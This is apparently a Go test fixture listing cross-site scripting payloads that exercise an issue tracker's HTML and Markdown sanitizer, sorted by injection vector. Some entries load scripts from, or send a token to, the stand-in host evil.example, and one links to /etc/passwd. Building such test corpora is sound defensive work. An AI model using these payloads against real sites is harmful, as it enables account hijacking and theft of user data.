package issues_test

// corpus are ways in which scripts got into the pages of trackers: through
// elements, attributes, addresses, Markdown's own syntax, repairs by the browser,
// and through names that stand in attributes.
var corpus = []string{
	// Elements.
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script>alert(1)//`,
	`<scr<script>ipt>alert(1)</script>`, `</p><script>alert(1)</script><p>`,
	`<iframe src="javascript:alert(1)">`, `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`,
	`<object data="data:text/html,<script>alert(1)</script>">`, `<embed src="//evil.example/x.swf">`,
	`<applet code=x>`, `<base href="//evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=//evil.example">`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<style>*{background:url(//evil.example/x)}</style>`, `<style>@import"//evil.example/x";</style>`,
	`<form action=//evil.example><input name=token><button>x</button></form>`,
	`<button formaction=javascript:alert(1)>x`, `<video poster=javascript:alert(1)>`,
	`<audio src onerror=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`, `<dialog open onclose=alert(1)>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><script>alert(1)</script>">`,
	`<textarea></textarea><script>alert(1)</script>`, `<title></title><img src onerror=alert(1)>`,
	`<xmp></xmp><img src onerror=alert(1)>`, `<plaintext><script>alert(1)`, `<frameset onload=alert(1)>`,
	`<body onload=alert(1)>`, `<html onmouseover=alert(1)>`,
	// Attributes.
	`<img src=x onerror=alert(1)>`, `<img src="x"onerror="alert(1)">`, `<img/src=x/onerror=alert(1)>`,
	"<img src=`x`onerror=alert(1)>", "<img\nsrc=x\nonerror\n=\nalert(1)>",
	`<img src=x oNeRrOr=alert(1)>`, `<img src="http://x" srcset="javascript:alert(1) 1x">`,
	`<b onclick=alert(1)>x</b>`, `<a href=/x onfocus=alert(1) autofocus>x</a>`,
	`<p style="background:url(javascript:alert(1))">x`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%"><a href=//evil.example>x</a></div>`,
	`<details open ontoggle=alert(1)>`, `<span id=x tabindex=1 onfocus=alert(1)>x`,
	`<p class="js-x" data-remote=true>`,
	`<a href="/x" target=_blank ping=//evil.example>x</a>`,
	`<img src=x alt="&quot; onerror=alert(1) x=&quot;">`, `<b title='"><script>alert(1)</script>'>x</b>`,
	`<input type=image src=x onerror=alert(1)>`,
	// Addresses.
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`, `<a href="java&#x0A;script:alert(1)">x</a>`,
	`<a href="&#0000106avascript:alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="feed:javascript:alert(1)">x</a>`,
	`[x](javascript:alert(1))`, `[x](<java	script:alert(1)>)`, `[x](JAVASCRIPT:alert(1) "t")`,
	`[x](&#x6a;avascript:alert(1))`, `[x](data:text/html,<script>alert(1)</script>)`, `[x](vbscript:x)`,
	`[x](file:///etc/passwd)`,
	`![x](javascript:alert(1))`, `![x](data:image/svg+xml,<svg onload=alert(1)>)`, `<javascript:alert(1)>`,
	`<data:text/html,<script>alert(1)</script>>`, "[x]: javascript:alert(1)\n\n[x]",
	"[x][y]\n\n[y]: data:text/html,x 'javascript:x'",
	// Out of what Markdown writes.
	`[x](http://e.example "onmouseover=alert(1) x=\"")`,
	`[x](http://e.example 't"><img src onerror=alert(1)>')`, `[x](http://e.example"onmouseover="alert(1))`,
	`![" onerror="alert(1)](http://e.example/x.png)`,
	`![x](http://e.example/x.png"onerror="alert(1))`, "```\"><script>alert(1)</script>\nx\n```",
	"```html onclick=alert(1)\n<script>alert(1)</script>\n```", "`<script>alert(1)</script>`",
	"    <script>alert(1)</script>",
	`http://e.example/"onmouseover=alert(1)`, `http://e.example/<script>alert(1)</script>`,
	`<http://e.example/"onclick="alert(1)>`, `www.e.example/'onclick='alert(1)`,
	"|<script>|\n|---|\n|alert(1)|", `- [x] <img src onerror=alert(1)>`, `# <svg onload=alert(1)>`,
	// Repairs.
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math href="javascript:alert(1)">x</math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<table><td><a href=/x><table><td><a href="javascript:alert(1)">`,
	`<a href=/x><a href=javascript:alert(1)>x`, `<!--><script>alert(1)</script>-->`,
	`<!-- --!><img src onerror=alert(1)> -->`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`, `</div></div></body></html><script>alert(1)</script>`,
	`<b><i></b></i><p><b onclick=alert(1)`, `<div><p><div></p><img src=x onerror="alert(1)`,
	`<<img src=x onerror=alert(1)>>`,
	// Letters.
	"<scr\u0000ipt>alert(1)</script>", "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞",
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`,
	"<a href=\"\u202ejavascript:alert(1)\">x</a>", "<ſcript>alert(1)</ſcript>",
	// References.
	`@will"onmouseover=alert(1)`, `@will<script>alert(1)</script>`, `#1"onmouseover="alert(1)`,
	`garden/plot#1<img src onerror=alert(1)>`, `[@will](javascript:alert(1))`,
	`<a href="javascript:alert(1)">#1</a>`, `<b title="#1 @will">#1</b>`,
}

// names are corpus entries as names of labels and milestones and as titles,
// which stand in attributes where an issue is referred to.
var names = []string{
	`"><script>alert(1)</script>`, `" onmouseover="alert(1)`, `' onfocus='alert(1)`,
	`</title><script>alert(1)`, `<img src=x onerror=alert(1)>`, `javascript:alert(1)`,
	`&quot;&gt;&lt;script&gt;`, "\u202e<svg/onload=x>", "`<b>`", `-->`, `]]>`, `\"><b>`, `{{7*7}}${7*7}`,
}
